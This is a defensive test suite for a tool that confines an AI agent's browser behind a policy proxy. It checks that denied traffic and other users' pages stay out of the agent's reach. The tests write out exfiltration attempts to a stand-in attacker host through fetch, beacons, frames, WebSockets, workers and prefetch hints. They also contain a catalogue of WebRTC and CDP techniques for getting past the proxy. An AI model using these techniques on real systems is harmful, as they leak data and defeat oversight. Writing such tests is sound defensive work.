/** `cordon serve --browser ws://…`: a real Chromium that somebody else started and uses, judged by what servers and that somebody see. */
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cordon, jsonLines, type Served, serve } from './cli-process.ts';
import { type GuardedSite, startGuardedSite } from './guarded-site.ts';
import { type ForeignBrowser, startForeignBrowser } from './support/foreign-browser.ts';

const ISSUE = 'https://forge.test/johannr-dev/agent/-/issues/30';
const ATTACKER = 'https://collect.evil.test';
const THEIRS = 'data:text/html,<title>Theirs</title><p>Their own page</p>';

let site: GuardedSite;
let foreign: ForeignBrowser;
/** Whose browser it is. */
let owner: Browser;
let theirs: Page;
/** Counts connections that do not come by the proxy. */
let direct: Server;
let reached = 0;
/** Counts WebRTC's own questions. */
let stun: Socket;
let asked = 0;
let served: Served;
let agent: Browser;
let page: Page;

beforeAll(async () => {
  site = await startGuardedSite();
  direct = createServer((connection) => {
    reached += 1;
    connection.destroy();
  }).listen(0, '127.0.0.1');
  stun = createSocket('udp4', () => {
    asked += 1;
  }).bind(0, '127.0.0.1');
  await Promise.all([once(direct, 'listening'), once(stun, 'listening')]);
  foreign = await startForeignBrowser(['--disable-popup-blocking']);
  owner = await chromium.connectOverCDP(foreign.ws);
  theirs = await (await owner.newContext()).newPage();
  await theirs.goto(THEIRS);
  served = await serve(words('--browser', foreign.ws));
  agent = await chromium.connectOverCDP(served.cdp);
  page = await pageOf(agent);
});

afterAll(async () => {
  await agent.close();
  await served.stop();
  await owner.close();
  await foreign.close();
  direct.close();
  stun.close();
  await site.close();
});

let count = 0;

function words(...more: string[]): readonly string[] {
  count += 1;
  const record = join(site.folder, `foreign-${count}.jsonl`);
  return ['--policy', site.policy, '--task', 'Look after issue 30 on forge.test', '--yes', '--record', record, ...more];
}

function contextOf(browser: Browser): BrowserContext {
  const [context] = browser.contexts();
  if (context === undefined) throw new Error('no context');
  return context;
}

async function pageOf(browser: Browser): Promise<Page> {
  const context = contextOf(browser);
  return context.pages()[0] ?? (await context.newPage());
}

function portOf(server: Server): number {
  const address = server.address();
  if (typeof address !== 'object' || address === null) throw new Error('the server does not listen');
  return address.port;
}

/** The addresses of all pages, as whoever has the browser sees them. */
async function pagesOfAll(): Promise<readonly string[]> {
  const session = await owner.newBrowserCDPSession();
  const { targetInfos } = await session.send('Target.getTargets');
  await session.detach();
  return targetInfos.filter(({ type }) => type === 'page').map(({ url }) => url);
}

/** Runs in a page: makes a document that asks whoever listens there for an address, as soon as it has a script. */
function makeDocument({ at, how }: { readonly at: number; readonly how: string }): void {
  const html = `<body><script>
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${at}' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  </scr${'ipt'}>`;
  const quoted = html.replaceAll('"', '&quot;');
  const data = `data:text/html,${encodeURIComponent(html)}`;
  const blob = (text = html): string => URL.createObjectURL(new Blob([text], { type: 'text/html' }));
  const make = new Function(
    'f',
    'html',
    'quoted',
    'data',
    'blob',
    `${how}; if (f !== undefined) document.body.append(f)`,
  );
  make(document.createElement('iframe'), html, quoted, data, blob);
}

describe('a browser that Cordon did not start, driven by an unmodified Playwright', () => {
  it('is named as such in the grant’s record, with what does not hold', () => {
    expect(served.isolation).toBe('context');
    expect(served.notHeld.join('\n')).toContain('WebRTC');
    const lines = jsonLines(readFileSync(served.record, 'utf8')).map((line) => JSON.stringify(line));
    expect(lines.find((line) => line.includes('session.isolated'))).toContain('"tier":"context"');
    for (const each of served.notHeld) {
      expect(lines.filter((line) => line.includes('safety.degraded')).join('\n')).toContain(each);
      expect(served.stderr()).toContain(each);
    }
  });

  it('shows an allowed page and lets it send what is allowed', async () => {
    const response = await page.goto(ISSUE);
    expect(response?.status()).toBe(200);
    expect(await page.innerText('body')).toContain('issue');
    expect(await page.evaluate(async () => (await fetch('/assets/site.css')).status)).toBe(200);
  });

  it('shows the page that says what was refused, for a navigation outside the grant', async () => {
    await page.goto(`${ATTACKER}/leak?secret=1`);
    const text = await page.innerText('body');
    expect(text).toContain('collect.evil.test');
    expect(text.toLowerCase()).toContain('refused');
    expect(site.sites.logs.attacker).toEqual([]);
  });

  it('lets nothing denied reach a server, in any of many ways', async () => {
    await page.goto(ISSUE);
    await page.evaluate(
      async (away) => {
        const quiet = (sent: Promise<unknown>): Promise<unknown> => sent.catch(() => undefined);
        const sends: Promise<unknown>[] = [];
        for (const url of away) {
          sends.push(quiet(fetch(url, { mode: 'no-cors' })));
          sends.push(quiet(fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })));
          navigator.sendBeacon(url, 'secret');
          new Image().src = url;
          const frame = document.createElement('iframe');
          frame.src = url;
          document.body.append(frame);
          const rules = document.createElement('script');
          rules.type = 'speculationrules';
          rules.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] });
          const hint = document.createElement('link');
          [hint.rel, hint.href] = ['preconnect', url];
          document.head.append(rules, hint);
          const socket = new WebSocket(url.replace(/^http/, 'ws'));
          sends.push(new Promise((resolve) => socket.addEventListener('close', resolve)));
          const text = `fetch(${JSON.stringify(url)},{mode:'no-cors'}).catch(()=>0).then(()=>postMessage(0))`;
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          sends.push(new Promise((resolve) => worker.addEventListener('message', resolve)));
        }
        await Promise.all(sends);
      },
      [`${ATTACKER}/leak`, `https://127.0.0.1:${portOf(direct)}/leak`, `http://127.0.0.1:${portOf(direct)}/leak`],
    );
    // A session that allows it would send these at once; what passes is there when a later, allowed request is.
    expect(await page.evaluate(async () => (await fetch('/assets/site.css')).status)).toBe(200);
    expect(site.sites.logs.attacker).toEqual([]);
    expect(reached).toBe(0);
  });

  it('has no WebRTC in any document, which would go past the proxy', async () => {
    await page.goto(ISSUE);
    const { port } = stun.address();
    const found = await page.evaluate(async (at) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      // A popup's window is its opener's to use before anything can be attached to it.
      const popup = open('about:blank');
      const views = [
        window,
        frame.contentWindow,
        popup,
        popup?.open('about:blank'),
        document.open('about:blank', '', ''),
      ];
      const kinds = views
        .flatMap((view) => (view === null || view === undefined ? [] : [Reflect.get(view, 'RTCPeerConnection')]))
        .filter((kind): kind is typeof RTCPeerConnection => typeof kind === 'function');
      for (const Kind of kinds) {
        const peer = new Kind({ iceServers: [{ urls: `stun:127.0.0.1:${at}` }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
      }
      return { views: views.filter((view) => view !== null && view !== undefined).length, with: kinds.length };
    }, port);
    expect(found).toEqual({ views: 5, with: 0 });
    expect(asked).toBe(0);
  });

  describe('reaches nobody by WebRTC', () => {
    /** Ways to make a document that no request is made for, each with this page in it. */
    const MADE: Readonly<Record<string, string>> = {
      'a srcdoc frame': 'f.srcdoc = html',
      'a sandboxed srcdoc frame': 'f.sandbox = "allow-scripts"; f.srcdoc = html',
      'a data frame': 'f.src = data',
      'a sandboxed data frame': 'f.sandbox = "allow-scripts"; f.src = data',
      'a blob frame': 'f.src = blob()',
      'a sandboxed blob frame': 'f.sandbox = "allow-scripts"; f.src = blob()',
      'a written frame': 'document.body.append(f); f.contentDocument.write(html); f = undefined',
      'a popup': 'f = undefined; open("about:blank").document.write(html)',
      'a popup of a blob': 'f = undefined; open(blob())',
      'a sandboxed frame of a popup':
        'f = undefined; open("about:blank").document.write(`<iframe sandbox=allow-scripts srcdoc="${quoted}"></iframe>`)',
      'a sandboxed frame of a blob popup':
        'f = undefined; open(blob(`<iframe sandbox=allow-scripts srcdoc="${quoted}"></iframe>`))',
    };

    /** Chromium 156 ends the process of a frame that tries by the list of connections, where several do: that is no way out either. */
    const unlessCrashed = (problem: unknown): void => {
      if (!/crashed/.test(String(problem))) throw problem;
    };

    /** Makes such a document in each of these pages, and answers how often anybody was asked for an address. */
    async function asksOf(makers: readonly (readonly [Page, string])[]): Promise<number> {
      const before = asked;
      try {
        for (const [maker, how] of makers)
          await maker.evaluate(makeDocument, { at: stun.address().port, how }).catch(unlessCrashed);
        // What would be asked is asked within a moment, and again when nobody answers.
        await new Promise((resolve) => setTimeout(resolve, 2_000));
      } finally {
        for (const each of page.context().pages()) if (each !== page) await each.close();
      }
      return asked - before;
    }

    it.each(['about:blank', ISSUE])('from what is made in %s', async (place) => {
      const makers: (readonly [Page, string])[] = [];
      for (const how of Object.values(MADE)) {
        const maker = await page.context().newPage();
        if (place !== 'about:blank') await maker.goto(`${place}?${makers.length}`);
        makers.push([maker, how]);
      }
      expect(await asksOf(makers)).toBe(0);
    });

    it('from a page that was opened for nobody', async () => {
      await page.goto(ISSUE);
      const opened = page.context().waitForEvent('page');
      await page.evaluate(() => void open('about:blank', '_blank', 'noopener'));
      expect(await asksOf([[await opened, 'f.sandbox = "allow-scripts"; f.srcdoc = html']])).toBe(0);
    });

    it('and no service worker makes documents that the proxy never saw', async () => {
      await page.goto(ISSUE);
      expect(await page.evaluate(() => typeof navigator.serviceWorker)).toBe('undefined');
    });
  });

  it('has no WebRTC in the worlds of clients either', async () => {
    const devtools = await page.context().newCDPSession(page);
    const kind = 'typeof RTCPeerConnection';
    await devtools.send('Page.enable');
    const ofOne = { source: `globalThis.early = ${kind}`, worldName: 'one' };
    await devtools.send('Page.addScriptToEvaluateOnNewDocument', ofOne);
    await page.goto(ISSUE);
    const { frameTree } = await devtools.send('Page.getFrameTree');
    const inWorld = async (worldName: string, expression: string): Promise<unknown> => {
      const place = { frameId: frameTree.frame.id, worldName };
      const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', place);
      const { result } = await devtools.send('Runtime.evaluate', { expression, contextId });
      return result.value;
    };
    expect(await inWorld('one', 'globalThis.early')).toBe('undefined');
    expect(await inWorld('another', kind)).toBe('undefined');
    await devtools.detach();
  });

  it('shows no trace of a control that the goal hides, in pages and popups', async () => {
    await page.goto(ISSUE);
    const opened = page.waitForEvent('popup');
    await page.evaluate(() => void open('/johannr-dev/agent/-/issues/30?popup'));
    const popup = await opened;
    await popup.waitForURL('**/30?popup');
    for (const each of [page, popup]) {
      await each.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<button>Delete my account</button>'));
      expect(await each.content()).toContain('issue');
      expect(await each.content()).not.toContain('Delete my account');
    }
    await popup.close();
  });
});

describe('others in the same browser', () => {
  it('are not seen by agents, whatever they open meanwhile', async () => {
    const another = await (await owner.newContext()).newPage();
    await another.goto(THEIRS);
    const session = await agent.newBrowserCDPSession();
    const { targetInfos } = await session.send('Target.getTargets');
    expect(JSON.stringify(targetInfos)).not.toContain('Theirs');
    expect(agent.contexts().flatMap((each) => each.pages().map((its) => its.url()))).not.toContain(THEIRS);
    expect(await (await fetch(`${served.http}/json/list`)).text()).not.toContain('Theirs');
    const driver = await puppeteer.connect({ browserWSEndpoint: served.cdp });
    const seen = (await driver.pages()).map((its) => its.url());
    await driver.disconnect();
    expect(seen.length).toBeGreaterThan(0);
    expect(seen).not.toContain(THEIRS);
    await another.close();
  });

  it('are out of reach where an agent knows their names', async () => {
    const theirSession = await theirs.context().newCDPSession(theirs);
    const { targetInfo } = await theirSession.send('Target.getTargetInfo');
    const { targetId, browserContextId } = targetInfo;
    const session = await agent.newBrowserCDPSession();
    await expect(session.send('Target.attachToTarget', { targetId })).rejects.toThrow();
    await expect(session.send('Target.closeTarget', { targetId })).rejects.toThrow();
    await expect(session.send('Target.activateTarget', { targetId })).rejects.toThrow();
    await expect(session.send('Target.getTargetInfo', { targetId })).rejects.toThrow();
    const inTheirs = browserContextId === undefined ? {} : { browserContextId };
    await expect(session.send('Target.createTarget', { url: 'about:blank', ...inTheirs })).rejects.toThrow();
    await expect(session.send('Storage.getCookies', { ...inTheirs })).rejects.toThrow();
  });

  it('go on as before, with their own cookies and their own way out', async () => {
    await contextOf(agent).addCookies([{ name: 'ours', value: '1', url: 'https://forge.test' }]);
    expect((await contextOf(agent).cookies()).map(({ name }) => name)).toContain('ours');
    for (const context of owner.contexts().filter((each) => each.pages().includes(theirs)))
      expect(await context.cookies()).toEqual([]);
    expect(await theirs.title()).toBe('Theirs');
    expect(await theirs.evaluate(() => typeof RTCPeerConnection)).toBe('function');
    expect(await theirs.evaluate(() => document.body.innerText)).toContain('Their own page');
    const before = reached;
    await theirs.evaluate(
      (url) => void fetch(url, { mode: 'no-cors' }).catch(() => undefined),
      `http://127.0.0.1:${portOf(direct)}/`,
    );
    await expect.poll(() => reached, { timeout: 20_000 }).toBeGreaterThan(before);
  });

  it('keep their pages when Cordon is killed, whose own are closed by the browser', async () => {
    const killed = await serve(words('--browser', foreign.http));
    const client = await chromium.connectOverCDP(killed.cdp);
    const doomed = await pageOf(client);
    await doomed.goto(`${ISSUE}?doomed`);
    const fresh = await (await client.newContext()).newPage();
    await fresh.goto(`${ISSUE}?fresh`);
    await expect
      .poll(pagesOfAll, { timeout: 20_000 })
      .toEqual(expect.arrayContaining([`${ISSUE}?doomed`, `${ISSUE}?fresh`]));
    await killed.stop('SIGKILL');
    await expect.poll(async () => (await pagesOfAll()).join(' '), { timeout: 20_000 }).not.toMatch(/doomed|fresh/);
    expect(await pagesOfAll()).toContain(THEIRS);
    expect(await page.title()).not.toBe('');
    await client.close();
  });
});

describe('what needs more than holds there is refused when it is opened', () => {
  it.each([
    ['a network of its own', ['--isolation', 'required'], 'let Cordon start the browser'],
    ['files for pages', ['--uploads', '.'], 'Leave out `--uploads`'],
    ['a proxy that has no one address', ['--proxy-host', '0.0.0.0'], 'Name one IPv4 address'],
  ])('%s', async (_, more, advice) => {
    const { status, stderr } = await cordon(['serve', ...words('--browser', foreign.ws, ...more)]);
    expect(status).not.toBe(0);
    expect(stderr).toContain(advice);
  });

  it('hosts that are not read', async () => {
    const document: unknown = JSON.parse(readFileSync(site.policy, 'utf8'));
    if (typeof document !== 'object' || document === null) throw new Error('no document');
    const policy = join(site.folder, 'unread.json');
    writeFileSync(policy, JSON.stringify({ ...document, network: { passthrough: ['login.test'] } }));
    const { status, stderr } = await cordon(['serve', ...words('--browser', foreign.ws), '--policy', policy]);
    expect(status).not.toBe(0);
    expect(stderr).toContain('Take it out of network.passthrough');
  });

  it('a browser that is not there, and one that does not reach the proxy', async () => {
    const { stderr } = await cordon(['serve', ...words('--browser', `ws://127.0.0.1:${portOf(direct)}/secret`)]);
    expect(stderr).toContain('There is no browser to be had at 127.0.0.1');
    expect(stderr).not.toContain('secret');
    const walled = await startForeignBrowser(['--host-rules=MAP 127.0.0.2 ~NOTFOUND']);
    const answer = await cordon(['serve', ...words('--browser', walled.ws, '--proxy-host', '127.0.0.2')]);
    await walled.close();
    expect(answer.status).not.toBe(0);
    expect(answer.stderr).toContain('--proxy-host');
  });
});
